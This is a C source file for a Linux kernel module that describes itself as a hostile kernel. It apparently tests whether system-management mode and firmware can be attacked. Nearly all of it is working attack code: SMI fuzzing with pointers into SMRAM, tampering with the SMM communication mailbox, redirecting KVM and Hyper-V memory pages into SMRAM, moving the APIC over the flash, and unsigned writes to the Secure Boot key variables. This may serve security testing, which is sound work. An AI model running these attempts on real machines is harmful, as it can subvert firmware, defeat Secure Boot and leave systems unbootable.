/*
 * A hostile kernel: a Linux module that tries to reach the memory of system-management mode (SMM)
 * or to keep the firmware from its flash. Each loading is one attempt, whose name is the parameter
 * `attempt`. Its result is a line in the kernel's log.
 */
#include <linux/delay.h>
#include <linux/efi.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/random.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <asm/apic.h>
#include <asm/msr.h>

static char *attempt = "";
module_param(attempt, charp, 0);
/* TSEG, the SMRAM of this machine, or a part of it. */
static ulong tseg;
module_param(tseg, ulong, 0);
/* Each takes two seconds: firmware waits for the processor that does not come. */
static int rounds = 30;
module_param(rounds, int, 0);

/* The part of the flash that has the variables. */
#define FLASH 0xffc00000
#define STORE 0x40000
/* Ports of the chip set: an SMI, and a reset. */
#define APM_CNT 0xb2
#define RESET 0xcf9
#define SMI_EN 0x630

#define X2APIC_ICR 0x830
#define X2APIC_TMICT 0x838
#define INIT 0x4500
#define GUEST_OS_ID 0x40000000
#define SIMP 0x40000083

/* An SMI with a command in AL, and these values in the other registers. */
static void smi(u8 command, const u64 words[14])
{
	u64 rax = words[0] << 8 | command;
	const u64 *rsi = words;

	asm volatile("push %%rbp\n\t"
		     "mov 8(%%rsi), %%rbx\n\tmov 16(%%rsi), %%rcx\n\t"
		     "mov 24(%%rsi), %%rdx\n\tmov 32(%%rsi), %%rdi\n\t"
		     "mov 40(%%rsi), %%r8\n\tmov 48(%%rsi), %%r9\n\t"
		     "mov 56(%%rsi), %%r10\n\tmov 64(%%rsi), %%r11\n\t"
		     "mov 72(%%rsi), %%r12\n\tmov 80(%%rsi), %%r13\n\t"
		     "mov 88(%%rsi), %%r14\n\tmov 96(%%rsi), %%r15\n\t"
		     "mov 104(%%rsi), %%rbp\n\tmov (%%rsi), %%rsi\n\t"
		     "out %%al, $0xb2\n\t"
		     "pop %%rbp"
		     : "+a"(rax), "+S"(rsi)
		     :
		     : "rbx", "rcx", "rdx", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15",
		       "memory", "cc");
}

static const char *once(void)
{
	outb(0, APM_CNT);
	return "done";
}

/* Clears GBL_SMI_EN. */
static const char *enable(void)
{
	static char value[8];

	outl(0x20, SMI_EN);
	outb(0x20, SMI_EN);
	snprintf(value, sizeof(value), "%x", inl(SMI_EN));
	return value;
}

/* All commands, with random registers, or with addresses of SMRAM in all of them. */
static const char *commands(void)
{
	u64 words[14];
	int command, word;

	for (command = 0; command < 256; command++) {
		get_random_bytes(words, sizeof(words));
		for (word = 0; command % 3 == 2 && word < 14; word++)
			words[word] = tseg + (words[word] & 0xfffff8);
		smi(command, words);
		cond_resched();
	}
	return "done";
}

/*
 * The start of edk2's SMM_CORE_PRIVATE_DATA, in which drivers outside of SMM leave a message for a
 * handler inside.
 */
struct mailbox {
	u64 signature;
	u64 handle;
	u64 ranges[2];
	u64 entry;
	u64 flags;
	u64 smst;
	u64 buffer;
	u64 size;
	u64 status;
};

#define SMMC 0x636d6d73

static struct mailbox *find_mailbox(void)
{
	efi_memory_desc_t *md;

	for_each_efi_memory_desc(md) {
		u64 size = md->num_pages << EFI_PAGE_SHIFT, at;
		u8 *memory;

		if (md->type != EFI_RUNTIME_SERVICES_DATA && md->type != EFI_RUNTIME_SERVICES_CODE)
			continue;
		memory = memremap(md->phys_addr, size, MEMREMAP_WB);
		for (at = 0; memory && at + sizeof(struct mailbox) <= size; at += 8) {
			struct mailbox *it = (struct mailbox *)(memory + at);

			if (it->signature == SMMC && it->ranges[0] < 16)
				return it;
		}
		if (memory)
			memunmap(memory);
	}
	return NULL;
}

/* The handler of the variables (gEfiSmmVariableProtocolGuid). */
static const u64 VARIABLES[2] = { 0x420999e6ed32d533, 0xa798d9cd722dc09c };

/* Messages of random bytes to handlers, and messages in SMRAM itself. */
static const char *messages(void)
{
	struct mailbox *mailbox = find_mailbox();
	u64 *message = (u64 *)get_zeroed_page(GFP_KERNEL), words[14] = {};
	struct mailbox old;
	int round;

	if (!mailbox || !message)
		return "no mailbox";
	old = *mailbox;
	for (round = 0; round < 120; round++) {
		get_random_bytes(message, PAGE_SIZE);
		if (round % 3 != 0)
			memcpy(message, VARIABLES, sizeof(VARIABLES));
		/* A length that fits, and a function that reads or writes variables. */
		if (round % 3 == 1) {
			message[2] &= 0x7ff;
			message[3] = 1 + message[3] % 4;
		}
		mailbox->buffer = virt_to_phys(message);
		if (round % 5 == 4)
			mailbox->buffer = tseg + (message[9] & 0xfff000);
		mailbox->size = round % 2 ? PAGE_SIZE : message[8];
		smi(0, words);
		cond_resched();
	}
	mailbox->buffer = old.buffer;
	mailbox->size = old.size;
	return "done";
}

/* The page of the flash to which firmware adds the next variable. */
static u64 next_page(void)
{
	u8 __iomem *flash = ioremap(FLASH, STORE);
	u64 at = STORE;

	while (flash && at > 0 && readb(flash + at - 1) == 0xff)
		at--;
	return (FLASH + at) & PAGE_MASK;
}

/* Puts the registers of the interrupt controller over the flash, where they take its writes. */
static const char *controller(void)
{
	u64 old;

	rdmsrl(MSR_IA32_APICBASE, old);
	if (!(old & X2APIC_ENABLE))
		return "no x2APIC";
	return wrmsrl_safe(MSR_IA32_APICBASE, next_page() | (old & 0xfff)) ? "refused" : "moved";
}

/* Lets KVM write the messages of Hyper-V's timers to SMRAM, while the processor is in SMM. */
static const char *timers(void)
{
	u64 page = __get_free_page(GFP_KERNEL);

	if (wrmsrl_safe(SIMP, virt_to_phys((void *)page) | 1))
		return "no synthetic interrupt controller";
	return wrmsrl_safe(SIMP, tseg | 1) ? "refused" : "accepted";
}

/*
 * Registers with the address of memory that KVM writes. Its own: wall clock, clock, asynchronous
 * page faults, stolen time, end of interrupt. Hyper-V's: hypercalls, reference time, assist page,
 * events, messages.
 */
static const u32 PAGES[] = {
	0x4b564d00, 0x4b564d01, 0x4b564d02, 0x4b564d03, 0x4b564d04,
	0x40000001, 0x40000021, 0x40000073, 0x40000082, SIMP,
};

/* Gives KVM addresses in SMRAM to write to, also while the processor is in SMM. */
static const char *pages(void)
{
	u64 words[14] = {}, name = 0;
	int index;

	get_cpu();
	/* Hyper-V's pages need a name of the guest. */
	rdmsrl_safe(GUEST_OS_ID, &name);
	wrmsrl_safe(GUEST_OS_ID, 1);
	for (index = 0; index < ARRAY_SIZE(PAGES); index++) {
		u64 old = 0;

		rdmsrl_safe(PAGES[index], &old);
		wrmsrl_safe(PAGES[index], (tseg + index * PAGE_SIZE) | 1);
		mdelay(5);
		smi(0, words);
		mdelay(5);
		wrmsrl_safe(PAGES[index], old);
	}
	wrmsrl_safe(GUEST_OS_ID, name);
	put_cpu();
	return "done";
}

/* INIT for the second processor, which the kernel does not use now, amid SMIs. */
static const char *inits(void)
{
	u64 words[14] = {};
	int round;

	for (round = 0; round < rounds; round++) {
		wrmsrl(X2APIC_ICR, 1ULL << 32 | INIT);
		smi(0, words);
		cond_resched();
	}
	return "done";
}

/* The steps of two processors, each of which waits for the other. */
enum { COME = 1, MAY_SWITCH_OFF, IS_OFF, MAY_SWITCH_ON, IS_ON };
static atomic_t step;

static void wait_for(int wanted)
{
	while (atomic_read(&step) != wanted)
		cpu_relax();
}

/* Counts the SMIs that this processor takes while its interrupt controller is off. */
static void without_controller(void *taken)
{
	u64 base, before, after;

	atomic_set(&step, COME);
	wait_for(MAY_SWITCH_OFF);
	rdmsrl(MSR_IA32_APICBASE, base);
	rdmsrl(MSR_SMI_COUNT, before);
	wrmsrl(MSR_IA32_APICBASE, base & ~(u64)(MSR_IA32_APICBASE_ENABLE | X2APIC_ENABLE));
	atomic_set(&step, IS_OFF);
	wait_for(MAY_SWITCH_ON);
	/* x2APIC mode begins in the other mode. */
	wrmsrl(MSR_IA32_APICBASE, base & ~(u64)X2APIC_ENABLE);
	wrmsrl(MSR_IA32_APICBASE, base);
	/* The timer's interrupt was lost if it came meanwhile: it comes again, in either mode. */
	wrmsrl_safe(MSR_IA32_TSC_DEADLINE, rdtsc() + 100000);
	wrmsrl_safe(X2APIC_TMICT, 1000);
	rdmsrl(MSR_SMI_COUNT, after);
	*(u64 *)taken = after - before;
	atomic_set(&step, IS_ON);
}

/* An SMI for all, while the other processor has no interrupt controller that could receive it. */
static const char *deaf(void)
{
	u64 words[14] = {}, taken;
	int other = !get_cpu();
	unsigned long flags;

	if (smp_call_function_single(other, without_controller, &taken, 0)) {
		put_cpu();
		return "no other processor";
	}
	wait_for(COME);
	/* The other one loses all interrupts, and this one, the only other, sends none. */
	local_irq_save(flags);
	atomic_set(&step, MAY_SWITCH_OFF);
	wait_for(IS_OFF);
	smi(0, words);
	atomic_set(&step, MAY_SWITCH_ON);
	wait_for(IS_ON);
	local_irq_restore(flags);
	put_cpu();
	return taken ? "taken" : "missed";
}

/* An EFI_VARIABLE_AUTHENTICATION_2: a time, and a certificate of PKCS#7 that is empty. */
#define UNSIGNED 40
static const u8 HEADER[UNSIGNED] = {
	0xee, 0x07, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
	24, 0, 0, 0, 0x00, 0x02, 0xf1, 0x0e,
	0x9d, 0xd2, 0xaf, 0x4a, 0xdf, 0x68, 0xee, 0x49, 0x8a, 0xa9, 0x34, 0x7d, 0x37, 0x56, 0x65, 0xa7,
};

#define ENABLE \
	EFI_GUID(0xf0a30bc7, 0xaf08, 0x4556, 0x99, 0xc4, 0x00, 0x10, 0x09, 0xc9, 0x3a, 0x44)
#define CUSTOM \
	EFI_GUID(0xc076ec0c, 0x7028, 0x4399, 0xa0, 0x72, 0x71, 0xee, 0x5c, 0x44, 0x8b, 0x9f)

/* Variables of Secure Boot, which the firmware's services do not change without a signature. */
static const char *keys(void)
{
	static const struct {
		efi_char16_t *name;
		efi_guid_t guid;
	} VARIABLE[] = {
		{ L"PK", EFI_GLOBAL_VARIABLE_GUID },
		{ L"KEK", EFI_GLOBAL_VARIABLE_GUID },
		{ L"db", EFI_IMAGE_SECURITY_DATABASE_GUID },
		{ L"dbx", EFI_IMAGE_SECURITY_DATABASE_GUID },
		{ L"SecureBoot", EFI_GLOBAL_VARIABLE_GUID },
		{ L"SetupMode", EFI_GLOBAL_VARIABLE_GUID },
		{ L"SecureBootEnable", ENABLE },
		{ L"CustomMode", CUSTOM },
	};
	/* Plain ones, volatile or not; with a time, replaced or added to; hidden from the system. */
	static const u32 ATTRIBUTES[] = { 0x07, 0x06, 0x27, 0x67, 0x47, 0x03, 0 };
	static char accepted[40];
	efi_guid_t none = ENABLE;
	u8 *data = (u8 *)get_zeroed_page(GFP_KERNEL);
	int which, how;

	if (!data)
		return "no memory";
	if (efi.set_variable(L"Transom-none", &none, 7, 0, data) != EFI_NOT_FOUND)
		return "no services";
	for (which = 0; which < ARRAY_SIZE(VARIABLE); which++) {
		efi_char16_t *name = VARIABLE[which].name;
		efi_guid_t guid = VARIABLE[which].guid;
		unsigned long size = PAGE_SIZE - UNSIGNED, length;

		/* The value that is there; for those that the system does not see, one byte. */
		if (efi.get_variable(name, &guid, NULL, &size, data + UNSIGNED))
			size = 1;
		memcpy(data, HEADER, UNSIGNED);
		for (how = 0; how < 3 * ARRAY_SIZE(ATTRIBUTES); how++) {
			u32 attributes = ATTRIBUTES[how / 3];
			u8 *from = attributes & 0x20 ? data : data + UNSIGNED;

			/* Removed, one byte of value, the whole value. */
			length = from == data ? UNSIGNED : 0;
			length += how % 3 == 0 ? 0 : how % 3 == 1 ? 1 : size;
			if (efi.set_variable(name, &guid, attributes, length, from) == EFI_SUCCESS) {
				snprintf(accepted, sizeof(accepted), "%d accepted as %x", which, attributes);
				return accepted;
			}
		}
	}
	return "refused";
}

static const char *reset(void)
{
	outb(0, APM_CNT);
	outb(6, RESET);
	outb(0, APM_CNT);
	return "still here";
}

static int __init begin(void)
{
	static const struct {
		const char *name;
		const char *(*make)(void);
	} ATTEMPTS[] = {
		{ "once", once },
		{ "enable", enable },
		{ "commands", commands },
		{ "messages", messages },
		{ "timers", timers },
		{ "controller", controller },
		{ "pages", pages },
		{ "inits", inits },
		{ "deaf", deaf },
		{ "keys", keys },
		{ "reset", reset },
	};
	int index;

	for (index = 0; index < ARRAY_SIZE(ATTEMPTS); index++) {
		if (!strcmp(attempt, ATTEMPTS[index].name))
			pr_info("attack: result %s\n", ATTEMPTS[index].make());
	}
	return 0;
}

static void __exit end(void)
{
}

module_init(begin);
module_exit(end);
MODULE_DESCRIPTION("attempts to reach system-management mode");
MODULE_LICENSE("Proprietary");
